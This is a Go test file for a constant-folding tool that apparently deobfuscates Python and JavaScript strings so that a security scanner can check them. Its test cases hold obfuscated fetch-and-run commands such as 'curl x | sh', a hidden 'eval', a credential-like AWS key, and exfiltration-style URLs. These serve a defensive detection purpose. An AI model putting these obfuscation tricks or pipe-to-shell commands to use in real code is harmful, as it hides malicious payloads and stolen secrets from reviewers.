package fold

import (
	"testing"
)

func evalVar(t *testing.T, lang, src, name string) string {
	t.Helper()
	f := Parse(lang, src)
	return f.Consts[name]
}

func TestFold(t *testing.T) {
	cases := []struct{ lang, src, name, want string }{
		{"python", "PART2 = 'Q3EGRIZ7XKJ4MPLW'\nk = 'AK' + 'IA' + PART2\n", "k", "AKIAQ3EGRIZ7XKJ4MPLW"},
		{"python", "s = 'hs | a/tset.x//:ptth'[::-1]\n", "s", "http://x.test/a | sh"},
		{"python", "c = ''.join(['ev', 'al'])\n", "c", "eval"},
		{"python", "p = base64.b64decode('Y3VybCB4IHwgc2g=')\n", "p", "curl x | sh"},
		{"python", "h = bytes.fromhex('6c73202d6c61')\n", "h", "ls -la"},
		{"js", "const u = 'ht' + 'tp://' + [203,0,113,7].join('.') + '/c';\n", "u", "http://203.0.113.7/c"},
		{"js", "const e = String.fromCharCode(101, 118, 97, 108);\n", "e", "eval"},
		{"js", "const r = 'lave'.split('').reverse().join('');\n", "r", "eval"},
		{"js", "const b = Buffer.from('ZXZhbA==', 'base64').toString();\n", "b", "eval"},
		{"js", "const x = atob('ZXZhbA==');\n", "x", "eval"},
	}
	for _, c := range cases {
		if got := evalVar(t, c.lang, c.src, c.name); got != c.want {
			t.Errorf("%s: %q, want %q", c.src, got, c.want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("a = 'x' + b\nc = ''.join([chr(1)])[::-1]")
	f.Fuzz(func(t *testing.T, s string) {
		for _, lang := range []string{"js", "python"} {
			fl := Parse(lang, s)
			for _, c := range fl.Calls() {
				for _, a := range c.Args {
					fl.Eval(a, 0)
				}
			}
		}
	})
}

// TestLink: constants imported from another file of the artifact fold,
// and so do values built from them.
func TestLink(t *testing.T) {
	files := map[string]*File{
		"lib/parts.js":  Parse("js", "export const PREFIX = \"AK\" + \"IA\";\nexport const HOST = \"coll\" + \"ect.example.net\";\n"),
		"lib/more.ts":   Parse("js", "export const TAIL = \"Q3EGRIZ7XKJ4MPLW\";\n"),
		"src/index.js":  Parse("js", "import { PREFIX, HOST as H } from \"../lib/parts\";\nconst { TAIL: T } = require(\"../lib/more.js\");\nconst key = PREFIX + T;\nconst url = \"https://\" + H + \"/c\";\n"),
		"pkg/consts.py": Parse("python", "PREFIX = 'AK' + 'IA'\n"),
		"pkg/app.py":    Parse("python", "from .consts import PREFIX as P\nfrom pkg.consts import (\n    PREFIX,\n)\nKEY = P + 'Q3EGRIZ7XKJ4MPLW'\nK2 = PREFIX + 'X'\n"),
		"pkg/other.py":  Parse("python", "from .missing import Y\nZ = Y + 'x'\n"),
	}
	Link(files)
	for _, c := range []struct{ file, name, want string }{
		{"src/index.js", "key", "AKIAQ3EGRIZ7XKJ4MPLW"},
		{"src/index.js", "url", "https://collect.example.net/c"},
		{"pkg/app.py", "KEY", "AKIAQ3EGRIZ7XKJ4MPLW"},
		{"pkg/app.py", "K2", "AKIAX"},
	} {
		if got := files[c.file].Consts[c.name]; got != c.want {
			t.Errorf("%s %s = %q, want %q", c.file, c.name, got, c.want)
		}
	}
	if v, ok := files["pkg/other.py"].Consts["Z"]; ok {
		t.Errorf("an unresolved import folded: Z = %q", v)
	}
}

// TestFunctionReturns: one level of local function returns folds.
func TestFunctionReturns(t *testing.T) {
	for _, c := range []struct{ lang, src, name, want string }{
		{"js", "function host() { return \"webho\" + \"ok.site\"; }\nconst u = \"https://\" + host() + \"/c\";\n", "u", "https://webhook.site/c"},
		{"js", "const p = () => \"AK\" + \"IA\";\nconst k = p() + \"Q3EGRIZ7XKJ4MPLW\";\n", "k", "AKIAQ3EGRIZ7XKJ4MPLW"},
		{"js", "const p = () => { return \"AK\" + \"IA\" };\nconst k = p() + \"X\";\n", "k", "AKIAX"},
		{"python", "def host() -> str:\n    return 'webho' + 'ok.site'\n\nURL = 'https://' + host()\n", "URL", "https://webhook.site"},
		{"python", "def p(): return 'AK' + 'IA'\nK = p() + 'X'\n", "K", "AKIAX"},
	} {
		f := Parse(c.lang, c.src)
		if got := f.Consts[c.name]; got != c.want {
			t.Errorf("%s: %s = %q, want %q", c.src, c.name, got, c.want)
		}
	}
	// A function with parameters, or whose first statement is not a
	// return, does not fold.
	for _, src := range []string{
		"function h(x) { return x + \".site\"; }\nconst u = h();\n",
		"function h() { log(); return \"a.site\"; }\nconst u = h();\n",
	} {
		if v, ok := Parse("js", src).Consts["u"]; ok {
			t.Errorf("%s: folded to %q", src, v)
		}
	}
}
